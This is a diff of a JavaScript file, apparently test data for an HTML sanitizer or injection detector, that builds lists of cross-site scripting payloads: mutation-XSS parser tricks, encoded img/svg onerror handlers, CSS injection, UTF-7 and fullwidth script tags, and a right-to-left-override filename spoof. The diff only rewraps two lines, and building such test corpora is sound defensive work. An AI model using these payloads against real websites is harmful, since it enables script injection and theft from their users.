@@ -28,7 +28,8 @@ const LOUD = [
   (n) => `<picture><source srcset="${url(n)}"><img></picture>`,
   // What parsers mend into something else: text first, an element after.
   (n) => `<noscript><p title="</noscript><img src=x onerror=${at(n)}>">`,
-  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${at(n)}&gt;">`,
+  (n) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${at(n)}&gt;">`,
   (n) => `<svg></p><style><a id="</style><img src=1 onerror=${at(n)}>">`,
   (n) =>
     `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${at(n)}></style></mglyph></form>`,
@@ -81,7 +82,8 @@ const QUIET = [
   (n) => `'-${at(n)}-' ";${at(n)}// \`;${at(n)}`,
   (n) => `<<<script>${at(n)}</script>>> <<b>>bold<</b>> ${n}`,
   (n) => `}*{background:url(${url(n)})}</style><style>body{display:none}/*${n}*/`,
-  (n) => `%3Cimg%20src%3Dx%20onerror%3D${at(n)}%3E &lt;img src=x onerror=${at(n)}&gt; &#60;svg onload=${at(n)}&#62;`,
+  (n) =>
+    `%3Cimg%20src%3Dx%20onerror%3D${at(n)}%3E &lt;img src=x onerror=${at(n)}&gt; &#60;svg onload=${at(n)}&#62;`,
   (n) => `\uFF1Cscript\uFF1E${at(n)}\uFF1C/script\uFF1E \u2039img\u203A \u02BAonerror\u02BA ${n}`,
   (n) => `+ADw-script+AD4-${at(n)}+ADw-/script+AD4-`,
   (n) => `\u202Egnp.exe\u202C \u2066\u2067\u202Btfel\u2069 ${n}`,
